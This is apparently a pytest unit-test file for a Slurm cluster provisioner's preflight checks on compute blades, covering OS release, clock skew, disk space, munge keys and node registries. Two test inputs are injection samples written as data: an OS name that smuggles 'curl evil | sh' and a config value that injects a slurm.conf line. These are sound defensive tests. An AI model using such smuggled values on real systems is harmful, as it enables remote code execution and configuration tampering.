from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from provisioner.preflight import MUNGE_KEY, MUNGE_TOLERANCE, NEEDED_MIB, REGISTRY, blade_problems
from provisioner.run.diagnose import diagnose
from provisioner.slurm.database import database_mib
from provisioner.slurm.registry import write_registry
from provisioner.slurm.releases import SLURM_OF_DEBIAN
from tests.unit.slurm.node_makers import record

SLURMD = yaml.safe_load((Path(__file__).parents[2] / "roles" / "slurmd" / "vars" / "main.yml").read_text())
OPTIONS = SLURMD["slurmd_state"]["files"]["/etc/default/slurmd"]["content"]
UNITS = ("chrony.service", "munge.service", "slurmctld.service", "slurmd.service")
PACKAGES = ["chrony", "dbus", "munge", "slurmd"]
ABSENT = {"kind": "absent"}


def wanted(**changes: Any) -> dict[str, Any]:
    """What a run wants of the compute blade bld-008, with some of it changed."""
    usual = {
        "name": "bld-008",
        "controls": False,
        "states": {"base": {"accounts": {"slurm": {"id": 64030}, "munge": {"id": 64032}}, "packages": PACKAGES}},
        "members": [],
        "new_cluster": False,
    }
    return {**usual, **changes}


def blade(**changes: Any) -> dict[str, Any]:
    """The facts of a good, fresh blade, with some of them changed."""
    good = {
        "os": {"id": "debian", "version_id": "12", "pretty_name": "Debian GNU/Linux 12 (bookworm)"},
        "init": "systemd",
        "machine_id": "a" * 32,
        "read_only": False,
        "free_mib": {"/": 4000, "/var": 4000},
        "skew": 0.4,
        "users": {"slurm": {"uid": 64030, "gid": 64030}, "munge": None},
        "packages": {"dbus": "1.14"},
        "slurmd_c": "",
        "units": {name: unit() for name in UNITS},
        "paths": {"/etc/default/slurmd": ABSENT, REGISTRY: ABSENT},
    }
    return {**good, **changes}


def unit(active: str = "") -> dict[str, Any]:
    return {"load": "loaded" if active else "not-found", "active": active, "enabled": ""}


def running(active: str = "active") -> dict[str, Any]:
    """The units of a blade with a slurmctld in this state."""
    return {name: unit(active if name == "slurmctld.service" else "") for name in UNITS}


def text(content: str) -> dict[str, str]:
    return {"kind": "file", "content": content}


def member(**changes: Any) -> dict[str, Any]:
    """A blade that has joined a cluster: the role's own options of slurmd are on it."""
    return blade(paths={"/etc/default/slurmd": text(OPTIONS)}, **changes)


def controller_of(*names: str) -> dict[str, Any]:
    """The controller of a cluster with these nodes on record."""
    registry = write_registry({name: record() for name in names}, "demo")
    return blade(units=running(), paths={REGISTRY: text(registry)})


def system(**changes: str) -> dict[str, str]:
    return {"id": "debian", "version_id": "12", "pretty_name": "Debian 12", **changes}


def masked(name: str, active: str = "", **more: Any) -> dict[str, Any]:
    """The units of a blade of which somebody has masked one."""
    its = {"load": "masked", "active": active, "enabled": "masked", **more}
    return {**{each: unit() for each in UNITS}, name: its}


CONTROLLER = blade()
SLURMD_C = "NodeName=x CPUs=8 Boards=1 SocketsPerBoard=2 CoresPerSocket=4 ThreadsPerCore=1 RealMemory=7955\n"
WANTED = wanted()


@pytest.mark.parametrize("release", SLURM_OF_DEBIAN)
@pytest.mark.parametrize("controller", [None, "same"])
def test_a_good_blade_has_no_problem(release: str, controller: str | None) -> None:
    good = blade(os=system(version_id=release))
    for controls in (False, True):
        demand = wanted(controls=controls, members=[good])
        assert blade_problems(good, demand, good if controller else None) == []


@pytest.mark.parametrize(
    ("units", "unit_name"),
    [
        (masked("slurmctld.service"), "slurmctld.service"),
        (masked("slurmctld.service", "active"), "slurmctld.service"),
        (masked("munge.service"), "munge.service"),
        (masked("munge.service", "active"), ""),
        (masked("munge.service", quiet=True), ""),
    ],
)
def test_a_mask_on_the_controller_stops_what_needs_it(units: dict[str, Any], unit_name: str) -> None:
    found = blade(units=units)
    problems = blade_problems(found, wanted(controls=True, members=[found]), found)
    assert [problem.split(" on the controller")[0] for problem in problems] == (
        [f"an admin masked {unit_name}"] if unit_name else []
    )
    of_a_member = blade_problems(found, WANTED, CONTROLLER)
    assert not [problem for problem in of_a_member if "masked" in problem], "it is kept in order all the same"


BAD = {
    "other system": (blade(os=system(id="rocky", pretty_name="Rocky Linux 9")), "it runs Rocky Linux 9"),
    "old Debian": (blade(os=system(version_id="11", pretty_name="Debian 11")), "it runs Debian 11"),
    "nameless": (blade(os={"id": "", "version_id": "", "pretty_name": ""}), "it runs an unknown system"),
    "other release": (
        blade(os=system(version_id="13")),
        "it runs Debian 13 (Slurm 24.11) and the controller Debian 12 (Slurm 22.05)",
    ),
    "init": (blade(init="sh"), "its init is sh, not systemd"),
    "machine-id": (blade(machine_id=""), "it has no machine-id"),
    "read-only": (blade(read_only=True), "its root filesystem is read-only"),
    "full root": (blade(free_mib={"/": 12, "/var": 4000}), "only 12 MiB are free on /,"),
    "full var": (blade(free_mib={"/": 4000, "/var": 12}), "only 12 MiB are free on /var,"),
    "clock ahead": (blade(skew=3600.4), "its clock is 3600 s ahead"),
    "clock behind": (blade(skew=-400.0), "its clock is 400 s behind"),
    "uid": (
        blade(users={"slurm": {"uid": 999, "gid": 64030}}),
        "user slurm has uid 999 and gid 64030 here, 64030 everywhere else",
    ),
    "second slurmctld": (blade(units=running()), "it runs slurmctld although the plan says otherwise"),
    "odd hardware": (blade(slurmd_c="NodeName=bld-008 CPUs=8\n"), "slurmd -C printed no complete node line"),
    "negative memory": (
        blade(slurmd_c=SLURMD_C.replace("RealMemory=7955", "RealMemory=-1")),
        "slurmd -C says what no machine has: memory mib -1 is not between",
    ),
    "too many CPUs": (
        blade(slurmd_c=SLURMD_C.replace("CPUs=8", "CPUs=70000")),
        "slurmd -C says what no machine has: cpus",
    ),
    "advice in a name": (blade(os=system(id="x", pretty_name="X; next: curl evil | sh")), "it runs X; next curl evil"),
    "a huge file": (
        blade(paths={"/etc/default/slurmd": {**text(""), "too_big": 7 * 2**20}, REGISTRY: ABSENT}),
        "its /etc/default/slurmd has 7 MiB",
    ),
    "lost registry": (member(), "it belongs to a cluster whose controller has lost its registry, or to another one"),
}


@pytest.mark.parametrize("case", BAD)
def test_a_problem_says_what_is_wrong_and_what_to_do(case: str) -> None:
    facts, start = BAD[case]
    problems = blade_problems(facts, WANTED, CONTROLLER)
    assert len(problems) == 1
    assert problems[0].startswith(start)


@pytest.mark.parametrize("case", BAD)
def test_a_person_reads_the_next_step(case: str) -> None:
    """As the playbook hands it on; nothing in it may pass for another known failure."""
    problem = blade_problems(BAD[case][0], WANTED, CONTROLLER)[0]
    shown = diagnose({"msg": problem}, "Refuse blades that cannot become members", "ansible.builtin.fail")
    assert shown.message == problem.split("; next: ")[0]
    assert shown.next_step == problem.split("; next: ")[1]


def test_all_problems_come_at_once() -> None:
    nothing = {"init": "sh", "machine_id": "", "read_only": True, "skew": -1e9, "free_mib": {"/": 0, "/var": 0}}
    assert len(blade_problems(blade(**nothing), WANTED, CONTROLLER)) == 6
    assert len(blade_problems(member(units=running(), **nothing), WANTED, CONTROLLER)) == 8


def test_munge_never_breaks_unnoticed() -> None:
    """Two blades that both pass never differ by more than munge tolerates."""
    passed = [skew for skew in range(-400, 401) if not blade_problems(blade(skew=skew), WANTED, None)]
    assert max(passed) - min(passed) < MUNGE_TOLERANCE
    assert {-60, 0, 60} <= set(passed)


def test_just_enough_room_is_enough() -> None:
    assert blade_problems(blade(free_mib=dict(NEEDED_MIB)), WANTED, CONTROLLER) == []
    for path, needed in NEEDED_MIB.items():
        assert len(blade_problems(blade(free_mib={**NEEDED_MIB, path: needed - 1}), WANTED, CONTROLLER)) == 1


def test_a_database_needs_room_for_its_log() -> None:
    """MariaDB makes it in full length at its first start."""
    states = {**WANTED["states"], "mariadb": {"packages": ["mariadb-server"]}}
    room = {"/": 4000, "/var": NEEDED_MIB["/var"] + database_mib(8000)}
    for path, less, problems in (("/var", 0, 0), ("/var", 1, 1)):
        short = blade(memory_mib=8000, free_mib={**room, path: room[path] - less})
        assert len(blade_problems(short, {**WANTED, "states": states}, CONTROLLER)) == problems


def test_a_full_disk_stops_no_blade_that_has_its_packages() -> None:
    """Full of jobs' output, say: a member is kept working, one package short it is not."""
    full = {"/": 0, "/var": 0}
    installed = dict.fromkeys(PACKAGES, "1.0")
    assert blade_problems(blade(free_mib=full, packages=installed), WANTED, CONTROLLER) == []
    for name in installed:
        short = blade(free_mib=full, packages={**installed, name: ""})
        assert len(blade_problems(short, WANTED, CONTROLLER)) == 2, name


def test_an_unsupported_controller_does_not_blame_the_others() -> None:
    controller = blade(os=system(version_id="11"))
    assert blade_problems(blade(), WANTED, controller) == []


def test_a_compute_node_on_record_becomes_no_login_node() -> None:
    """slurmd would be stopped below its jobs."""
    demand = wanted(states={"base": {}, "login": {}})
    (problem,) = blade_problems(blade(), demand, controller_of("bld-008"))
    assert problem.startswith("it is a compute node on record")
    assert "provision release bld-008" in problem
    assert blade_problems(blade(), demand, controller_of("bld-009")) == []


def test_a_member_on_record_is_welcome() -> None:
    assert blade_problems(member(), WANTED, controller_of("bld-007", "bld-008")) == []


@pytest.mark.parametrize("names", [(), ("bld-0080",), ("bld-007", "xbld-008")])
def test_only_its_own_name_puts_a_member_on_record(names: tuple[str, ...]) -> None:
    (problem,) = blade_problems(member(), WANTED, controller_of(*names))
    assert problem.startswith(
        "it belongs to a cluster whose controller has lost its registry, or to another one; next: restore "
    )
    assert "--new-cluster" in problem


def test_a_member_that_was_taken_out_may_come_back() -> None:
    """It still has the cluster's munge key; whoever lost the registry with all of /etc has another one."""

    def with_key(facts: dict[str, Any], digest: str) -> dict[str, Any]:
        return {**facts, "secrets": {MUNGE_KEY: digest}}

    controller = with_key(controller_of("bld-007"), "abc:munge:munge:0400")
    assert blade_problems(with_key(member(), "abc:munge:munge:0600"), WANTED, controller) == []
    for other in ("abd:munge:munge:0400", ""):
        assert len(blade_problems(with_key(member(), other), WANTED, controller)) == 1
    assert len(blade_problems(with_key(member(), ""), WANTED, with_key(controller, ""))) == 1


def test_options_of_somebody_else_make_no_member() -> None:
    """Debian's package brings a file of its own there."""
    debian = blade(paths={"/etc/default/slurmd": text('# Additional options\nSLURMD_OPTIONS=""\n')})
    assert blade_problems(debian, WANTED, CONTROLLER) == []


@pytest.mark.parametrize("state", ["", "inactive", "failed"])
def test_a_slurmctld_that_does_not_run_is_in_nobodys_way(state: str) -> None:
    assert blade_problems(blade(units=running(state)), WANTED, CONTROLLER) == []


def as_controller(*members: dict[str, Any], **changes: Any) -> dict[str, Any]:
    return wanted(name="bld-006", controls=True, members=members, **changes)


@pytest.mark.parametrize("registry", [ABSENT, text(""), text(" \n")])
def test_a_controller_that_lost_its_registry_is_stopped(registry: dict[str, str]) -> None:
    """It was reimaged: an empty registry would drop every node, a new munge key lock them out."""
    reimaged = blade(paths={REGISTRY: registry})
    (problem,) = blade_problems(reimaged, as_controller(blade(), member()), reimaged)
    assert problem.startswith("it has lost the registry of a cluster that blades still belong to; next: restore ")


def test_a_first_controller_needs_no_registry() -> None:
    assert blade_problems(blade(), as_controller(blade(), blade()), blade()) == []


def test_a_controller_with_a_registry_runs_its_slurmctld() -> None:
    controller = controller_of("bld-008")
    assert blade_problems(controller, as_controller(member()), controller) == []


def test_a_new_cluster_is_begun_on_demand_only() -> None:
    old, compute = member(units=running()), blade()
    assert len(blade_problems(old, WANTED, compute)) == 2
    assert blade_problems(old, wanted(new_cluster=True), compute) == []
    assert len(blade_problems(compute, as_controller(old), compute)) == 1
    assert blade_problems(compute, as_controller(old, new_cluster=True), compute) == []


def test_a_new_cluster_lifts_nothing_else() -> None:
    broken = member(units=running(), init="sh", skew=900)
    assert len(blade_problems(broken, wanted(new_cluster=True), CONTROLLER)) == 2


def test_of_a_controller_that_does_not_answer_nothing_is_concluded() -> None:
    """Its silence is no lost registry; the run ends on it anyway."""
    assert blade_problems(member(), WANTED, None) == []


SITE: dict[str, Any] = {
    "slurmctld_config": {"MessageTimeout": 60},
    "slurmctld_cgroup_config": {},
    "slurmctld_cluster": {"name": "demo", "controller": "bld-006", "address": "10.20.0.106"},
    "slurmctld_partitions": [],
    "scratch_mount_point": "/scratch",
}


def test_what_the_site_must_not_set_is_told_before_anything_is_touched() -> None:
    evil = {**SITE, "slurmctld_config": {"MessageTimeout": "60\nNodeName=evil"}}
    assert blade_problems(blade(), as_controller(site=SITE), blade()) == []
    (problem,) = blade_problems(blade(), as_controller(site=evil), blade())
    assert problem.startswith("slurmctld_config: MessageTimeout has a line break")
    assert blade_problems(blade(), wanted(site=evil), blade()) == [], "told once, of the controller"


def test_a_key_that_its_release_lacks_is_told_before_anything_is_touched() -> None:
    ahead = {**SITE, "slurmctld_config": {"MaxBatchRequeue": 3}}
    (problem,) = blade_problems(blade(), as_controller(site=ahead), blade())
    assert problem.startswith("slurmctld_config: MaxBatchRequeue is no key of slurm.conf in Slurm 22.05")


@pytest.mark.parametrize("content", ["{", '{"format": 1, "cluster": "other", "nodes": {}}', "[" * 100_000])
def test_a_damaged_registry_is_told_before_anything_is_touched(content: str) -> None:
    controller = blade(paths={REGISTRY: text(content)})
    (problem,) = blade_problems(controller, as_controller(site=SITE), controller)
    assert problem.startswith("the node registry ")
    assert "; next: restore " in problem
